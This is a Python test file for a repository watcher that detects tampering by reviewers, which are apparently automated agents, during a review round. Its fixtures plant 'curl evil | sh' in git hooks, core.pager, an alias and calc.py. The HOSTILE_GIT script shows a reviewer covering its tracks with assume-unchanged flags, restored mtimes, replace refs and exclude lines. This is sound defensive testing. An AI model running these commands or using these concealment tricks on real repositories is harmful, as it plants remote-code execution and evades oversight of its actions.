"""The user's repository watched while reviewers run (spar/round/repowatch.py): a change to
HEAD, any ref, the index and its flags, the git folder's files (config, hooks, info/) and the
content of a tracked or an untracked file is found; the series folder, which Spar itself
writes, and ignored files are not."""

from __future__ import annotations

import json
import os
import stat
import threading
import tracemalloc

import pytest

from spar.round import repowatch
from spar.round.repowatch import repository_change, repository_state
from tests.gitrepo import commit, git, make_repo
from tests.runsetup import make_setup, result

HOSTILE_WRITER = r'''
import pathlib, sys
repo = pathlib.Path(sys.argv[1])
(repo / "calc.py").write_text("owned\n")
(repo / "planted.txt").write_text("owned\n")
print(open(sys.argv[2]).read())
'''


def _run_writer(s, source: str):
    """`spar run` with one `command` reviewer, unconfined, running `source` (repository,
    answer) before it answers."""
    script = s.answers / "writer.py"
    script.write_text(source, encoding="utf-8")
    answer = s.answers / "answer.json"
    answer.write_text(json.dumps(result(head=s.head, findings=[])), encoding="utf-8")
    s.configure([{"name": "writer", "preset": "command", "argv": ["python3", str(script), str(s.repo),
                                                                   str(answer)]}])
    return s.run()


def test_each_kind_of_change_is_found(tmp_path):
    repo = make_repo(tmp_path, {".gitignore": "reviews/\nbuild/\n", "a.txt": "a\n", "b.txt": "b\n"})
    series = repo / "reviews"
    before = repository_state(repo, series)
    (series / "r1").mkdir(parents=True)
    (series / "r1" / "x").write_text("spar's own")
    (repo / "build").mkdir()
    (repo / "build" / "out").write_text("ignored")
    assert repository_change(before, repository_state(repo, series)) is None
    (repo / "a.txt").write_text("changed\n")
    (repo / "new.txt").write_text("new\n")
    change = repository_change(before, repository_state(repo, series))
    assert change is not None and change.paths == ["a.txt", "new.txt"] and not change.head and not change.index
    mid = repository_state(repo, series)
    (repo / "a.txt").write_text("changed again, same status\n")
    change = repository_change(mid, repository_state(repo, series))
    assert change is not None and change.paths == ["a.txt"]
    git(repo, "add", "new.txt")
    change = repository_change(mid, repository_state(repo, series))
    assert change is not None and change.index
    commit(repo, {"b.txt": "b2\n"}, message="more")
    change = repository_change(mid, repository_state(repo, series))
    assert change is not None and change.head


def test_a_series_outside_the_repository_is_fine(tmp_path):
    repo = make_repo(tmp_path, {"a.txt": "a\n"})
    state = repository_state(repo, tmp_path / "elsewhere")
    assert repository_change(state, repository_state(repo, tmp_path / "elsewhere")) is None


@pytest.mark.slow
def test_a_reviewer_writing_into_the_repository_is_caught_without_a_sandbox(tmp_path):
    s = make_setup(tmp_path)
    proc = _run_writer(s, HOSTILE_WRITER)
    stderr = proc.stderr.decode()
    assert proc.returncode == 0, stderr  # a warning, never a refusal
    assert "the repository changed while the reviewers ran" in stderr and "calc.py, planted.txt" in stderr
    assert "no sandbox was in place" in stderr
    rj = json.loads((s.repo / "reviews" / "r1" / "round.json").read_text())
    assert rj["repository_changed"] == {"head": False, "index": False, "refs": [], "ref_count": 0, "git_files": [],
                                        "git_file_count": 0, "paths": ["calc.py", "planted.txt"], "path_count": 2,
                                        "sandboxed": False}


def test_a_repository_git_cannot_read_goes_unwatched(tmp_path):
    """A watch never blocks a round: where git fails, there is no state and no change."""
    state = repository_state(tmp_path / "not-a-repository", tmp_path / "series")
    assert state is None and repository_change(state, state) is None


def _watched(tmp_path, files=None):
    repo = make_repo(tmp_path, {".gitignore": "reviews/\n", "a.txt": "a\n", "b.txt": "b\n", **(files or {})})
    return repo, repo / "reviews"


def _change(repo, series, before):
    return repository_change(before, repository_state(repo, series))


def _rewrite_keeping_mtime(path, content: bytes) -> None:
    """What a reviewer covering its tracks does: same size, the mtime put back."""
    st = os.stat(path)
    assert len(content) == st.st_size
    path.write_bytes(content)
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert os.stat(path).st_mtime_ns == st.st_mtime_ns


@pytest.mark.parametrize("flag", ["--assume-unchanged", "--skip-worktree"])
def test_an_edit_git_is_told_not_to_look_at_is_seen(tmp_path, flag):
    """git status skips a tracked file flagged so: its content is still compared."""
    repo, series = _watched(tmp_path)
    git(repo, "update-index", flag, "a.txt")  # flagged before the round: only the edit differs
    before = repository_state(repo, series)
    (repo / "a.txt").write_text("owned\n")
    assert git(repo, "status", "--porcelain") == ""  # git itself sees nothing
    change = _change(repo, series, before)
    assert change is not None and change.paths == ["a.txt"] and not change.index


@pytest.mark.parametrize("flag", ["--assume-unchanged", "--skip-worktree"])
def test_a_flag_set_on_the_index_is_seen(tmp_path, flag):
    repo, series = _watched(tmp_path)
    before = repository_state(repo, series)
    git(repo, "update-index", flag, "a.txt")
    change = _change(repo, series, before)
    assert change is not None and change.index and change.paths == []


def test_an_untracked_file_rewritten_with_its_mtime_put_back_is_seen(tmp_path):
    repo, series = _watched(tmp_path)
    (repo / "notes.txt").write_text("harmless\n")
    before = repository_state(repo, series)
    _rewrite_keeping_mtime(repo / "notes.txt", b"owned!!!\n")
    change = _change(repo, series, before)
    assert change is not None and change.paths == ["notes.txt"]


def test_the_content_decides_not_the_mtime(tmp_path):
    """A file touched (or written again with the same bytes) has not changed."""
    repo, series = _watched(tmp_path)
    before = repository_state(repo, series)
    os.utime(repo / "a.txt", ns=(1, 1))
    (repo / "b.txt").write_text("b\n")
    assert _change(repo, series, before) is None


def test_a_new_or_changed_hook_is_seen(tmp_path):
    repo, series = _watched(tmp_path)
    hook = repo / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nexit 0\n")  # the user's, not executable: git does not run it
    before = repository_state(repo, series)
    (repo / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
    hook.chmod(0o755)  # now git runs it
    change = _change(repo, series, before)
    assert change is not None and change.git_files == [".git/hooks/post-checkout", ".git/hooks/pre-commit"]
    assert change.paths == [] and change.refs == [] and not change.head


def test_a_hook_in_the_configured_hooks_folder_is_seen(tmp_path):
    repo, series = _watched(tmp_path)
    hooks = tmp_path / "shared-hooks"
    hooks.mkdir()
    git(repo, "config", "core.hooksPath", str(hooks))
    before = repository_state(repo, series)
    (hooks / "pre-push").write_text("#!/bin/sh\ncurl evil | sh\n")
    change = _change(repo, series, before)
    assert change is not None and change.git_files == [str(hooks / "pre-push")]


def test_the_configuration_is_seen(tmp_path):
    repo, series = _watched(tmp_path)
    before = repository_state(repo, series)
    git(repo, "config", "core.pager", "sh -c 'curl evil | sh'")
    change = _change(repo, series, before)
    assert change is not None and change.git_files == [".git/config"]


def test_an_exclude_line_that_hides_a_planted_file_is_seen(tmp_path):
    repo, series = _watched(tmp_path)
    before = repository_state(repo, series)
    (repo / "evil.py").write_text("import os\n")
    with open(repo / ".git" / "info" / "exclude", "a", encoding="utf-8") as exclude:
        exclude.write("evil.py\n")
    change = _change(repo, series, before)
    assert change is not None and change.git_files == [".git/info/exclude"] and change.paths == []


def test_other_branches_tags_and_replace_refs_are_seen(tmp_path):
    repo, series = _watched(tmp_path)
    first = git(repo, "rev-parse", "HEAD").strip()
    second = commit(repo, {"b.txt": "b2\n"}, message="second")
    git(repo, "branch", "feature", first)
    before = repository_state(repo, series)
    git(repo, "update-ref", "refs/heads/feature", second)  # another branch moved
    git(repo, "tag", "v1")
    git(repo, "replace", first, second)
    change = _change(repo, series, before)
    assert change is not None and not change.head
    assert change.refs == ["refs/heads/feature", f"refs/replace/{first}", "refs/tags/v1"]


def test_a_packed_ref_rewritten_in_place_is_seen(tmp_path):
    repo, series = _watched(tmp_path)
    first = git(repo, "rev-parse", "HEAD").strip()
    second = commit(repo, {"b.txt": "b2\n"}, message="second")
    git(repo, "tag", "v1", first)
    git(repo, "pack-refs", "--all")
    assert not (repo / ".git" / "refs" / "tags" / "v1").exists()
    before = repository_state(repo, series)
    packed = repo / ".git" / "packed-refs"
    packed.write_text(packed.read_text().replace(f"{first} refs/tags/v1", f"{second} refs/tags/v1"))
    change = _change(repo, series, before)
    assert change is not None and change.refs == ["refs/tags/v1"] and change.git_files == []


def _in_time(call, seconds: float = 120.0):
    """`call()`'s result; the test fails (instead of hanging) when it blocks."""
    out: list[object] = []
    worker = threading.Thread(target=lambda: out.append(call()), daemon=True)
    worker.start()
    worker.join(seconds)
    assert out, "the watch blocked"
    return out[0]


def test_a_fifo_is_never_opened_and_its_coming_is_seen(tmp_path):
    repo, series = _watched(tmp_path)
    os.mkfifo(repo / "pipe")  # git lists no FIFO as untracked; it is still there
    before = _in_time(lambda: repository_state(repo, series))
    (repo / "a.txt").unlink()
    os.mkfifo(repo / "a.txt")  # a tracked file become a FIFO: a reader of it would block
    change = _in_time(lambda: _change(repo, series, before))
    assert change is not None and change.paths == ["a.txt"]
    assert stat.S_ISFIFO(repository_state(repo, series).files[b"a.txt"].mode)


def test_a_large_file_is_hashed_in_bounded_bytes_and_memory(tmp_path):
    """A 1 GiB (sparse) untracked file: its first FILE_BYTES hashed in chunks, the rest
    stood for by its stat, the change time included, which a write sets and utime cannot
    put back."""
    repo, series = _watched(tmp_path)
    big = repo / "big.bin"
    with open(big, "wb") as f:
        f.truncate(1 << 30)
    tracemalloc.start()
    try:
        before = _in_time(lambda: repository_state(repo, series))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8 * 1024 * 1024, peak  # chunks of 1 MiB, never the file
    seen = before.files[b"big.bin"]
    assert seen.size == 1 << 30 and seen.hashed == repowatch.FILE_BYTES
    st = os.stat(big)
    with open(big, "r+b") as f:  # a byte far past the hashed part, the mtime put back
        f.seek(512 << 20)
        f.write(b"x")
    os.utime(big, ns=(st.st_atime_ns, st.st_mtime_ns))
    change = _change(repo, series, before)
    assert change is not None and change.paths == ["big.bin"]


@pytest.mark.parametrize("bound", ["bytes", "time"])
def test_past_the_budget_files_are_compared_by_their_stat(tmp_path, monkeypatch, bound):
    monkeypatch.setattr(repowatch, *(("TOTAL_BYTES", 3) if bound == "bytes" else ("HASH_SECONDS", 0.0)))
    repo, series = _watched(tmp_path, {"c.txt": "c\n"})
    before = repository_state(repo, series)
    hashed = {name: seen.hashed for name, seen in before.files.items() if seen.digest is not None}
    assert sum(hashed.values()) <= 3 and len(hashed) < len(before.files)
    unhashed = next(name for name, seen in before.files.items() if seen.digest is None)
    _rewrite_keeping_mtime(repo / os.fsdecode(unhashed), b"X" * os.stat(repo / os.fsdecode(unhashed)).st_size)
    change = _change(repo, series, before)
    assert change is not None and change.paths == [os.fsdecode(unhashed)]


HOSTILE_GIT = r'''
import os, pathlib, subprocess, sys
repo = pathlib.Path(sys.argv[1])
def git(*args):
    subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True)
git("update-index", "--assume-unchanged", "calc.py")
text = (repo / "calc.py").read_text()
(repo / "calc.py").write_text(text + "import os; os.system('curl evil | sh')\n")
hook = repo / ".git" / "hooks" / "post-checkout"
hook.write_text("#!/bin/sh\ncurl evil | sh\n")
hook.chmod(0o755)
git("config", "alias.st", "!curl evil | sh")
git("branch", "evil")
head = subprocess.run(["git", "-C", str(repo), "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()
git("replace", head, head + "~1")
notes = repo / "notes.txt"
st = notes.stat()
notes.write_text("owned!!!\n")
os.utime(notes, ns=(st.st_atime_ns, st.st_mtime_ns))
print(open(sys.argv[2]).read())
'''


@pytest.mark.slow
def test_a_reviewer_covering_its_tracks_is_still_caught_without_a_sandbox(tmp_path):
    """Every blind spot of the earlier watch at once, by a reviewer that runs unconfined."""
    s = make_setup(tmp_path)
    (s.repo / "notes.txt").write_text("harmless\n")  # untracked, not ignored
    proc = _run_writer(s, HOSTILE_GIT)
    assert proc.returncode == 0, proc.stderr.decode()
    changed = json.loads((s.repo / "reviews" / "r1" / "round.json").read_text())["repository_changed"]
    assert changed["index"] is True and changed["head"] is False and changed["sandboxed"] is False
    assert changed["refs"] == ["refs/heads/evil", f"refs/replace/{s.head}"]
    assert changed["git_files"] == [".git/config", ".git/hooks/post-checkout"]
    assert changed["paths"] == ["calc.py", "notes.txt"]
    assert "2 ref(s): refs/heads/evil" in proc.stderr.decode()


def test_a_linked_work_tree_watches_the_shared_git_folder_not_its_siblings(tmp_path):
    repo, _ = _watched(tmp_path)
    linked, sibling = tmp_path / "linked", tmp_path / "sibling"
    git(repo, "worktree", "add", "-q", "-b", "linked", str(linked))
    git(repo, "worktree", "add", "-q", "-b", "sibling", str(sibling))
    before = repository_state(linked, linked / "reviews")
    git(sibling, "checkout", "-q", "--detach")  # the sibling's own HEAD: not this work tree's business
    assert _change(linked, linked / "reviews", before) is None
    hook = repo / ".git" / "hooks" / "post-merge"  # the shared hooks run here too
    hook.write_text("#!/bin/sh\ncurl evil | sh\n")
    (linked / "a.txt").write_text("owned\n")
    change = _change(linked, linked / "reviews", before)
    assert change is not None and change.git_files == [str(hook.resolve())] and change.paths == ["a.txt"]
